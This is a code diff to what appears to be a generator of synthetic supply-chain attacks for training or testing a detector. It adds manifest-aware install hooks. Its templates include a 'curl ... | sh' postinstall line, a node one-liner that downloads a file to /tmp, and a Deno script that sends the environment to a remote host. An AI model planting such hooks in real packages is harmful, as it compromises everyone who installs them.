@@ -10,7 +10,7 @@ from collections.abc import Callable, Sequence
 import numpy as np
 
 from ..features.history import History
-from ..features.manifests import BROKEN, PROBE, declared, form_of
+from ..features.manifests import BROKEN, HOOK, PROBE, declared, form_of
 from ..features.vectors import describe_commits
 from .splices import Files, Touch, plant
 
@@ -39,6 +39,11 @@ def _one(rng: np.random.Generator, choices: Sequence[str]) -> bytes:
     return str(rng.choice(choices)).encode()
 
 
+def _step(manifest: str, name: str, rng: np.random.Generator) -> str:
+    """Declare a step that runs at installation, if it has a name that manifests are read for."""
+    return f"{HOOK}{form_of(manifest)}:{name}@{rng.bytes(4).hex()}" if name else ""
+
+
 def install_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
     """A script that runs at installation: a line in a manifest, and a small new file."""
     manifest = files.some("manifest", rng)
@@ -59,7 +64,11 @@ def install_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
         f"import {{ {name} }} from './{name}.mjs'\nawait {name}(Deno.env.toObject(), "
         f"new URL('https://{host}'))\n",
     ])  # fmt: skip
-    return [Touch(manifest, line, size=2_000), Touch(script, payload, new=True, size=len(payload))]
+    declares = _step(manifest, "postinstall", rng) if form_of(manifest) == "npm" else ""
+    return [
+        Touch(manifest, line, size=2_000, declares=declares),
+        Touch(script, payload, new=True, size=len(payload)),
+    ]
 
 
 def workflow_step(files: Files, rng: np.random.Generator) -> list[Touch] | None:
@@ -160,21 +169,25 @@ def weakened_check(files: Files, rng: np.random.Generator) -> list[Touch] | None
 
 
 def inline_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
-    """One line in a manifest that fetches and runs something at installation."""
+    """One line in a manifest, of a kind that it can have, that runs something at installation."""
     manifest = files.some("manifest", rng)
     if manifest is None:
         return None
     host, name = _host(rng), _word(rng)
-    when = rng.choice(["preinstall", "postinstall", "prepare", "install"])
-    line = _one(rng, [
-        f'    "{when}": "curl -s https://{host}/{name} | sh",\n',
-        f"    \"{when}\": \"node -e \\\"require('http').get('http://{host}/{name}',r=>r.pipe("
-        f"require('fs').createWriteStream('/tmp/{name}')))\\\"\",\n",
-        f"    cmdclass={{'install': __import__('{name}').Install}},\n",
-        f'  spec.extensions = ["ext/{name}/extconf.rb"]\n',
-        f'build = "{name}/main.rs"\n',
-    ])  # fmt: skip
-    return [Touch(manifest, line, size=2_000)]
+    when = str(rng.choice(["preinstall", "postinstall", "prepare", "install"]))
+    runs, lines = {
+        "npm": (when, [
+            f'    "{when}": "curl -s https://{host}/{name} | sh",\n',
+            f"    \"{when}\": \"node -e \\\"require('http').get('http://{host}/{name}',r=>r.pipe("
+            f"require('fs').createWriteStream('/tmp/{name}')))\\\"\",\n",
+        ]),
+        "gem": ("extensions", [f'  spec.extensions = ["ext/{name}/extconf.rb"]\n']),
+        "cargo": ("build", [f'build = "{name}/main.rs"\n']),
+        "": ("", [f"    cmdclass={{'install': __import__('{name}').Install}},\n"]),
+    }.get(form_of(manifest), ("", []))  # fmt: skip
+    if not lines or (not runs and not manifest.endswith("setup.py")):
+        return None
+    return [Touch(manifest, _one(rng, lines), size=2_000, declares=_step(manifest, runs, rng))]
 
 
 def new_workflow(files: Files, rng: np.random.Generator) -> list[Touch] | None:
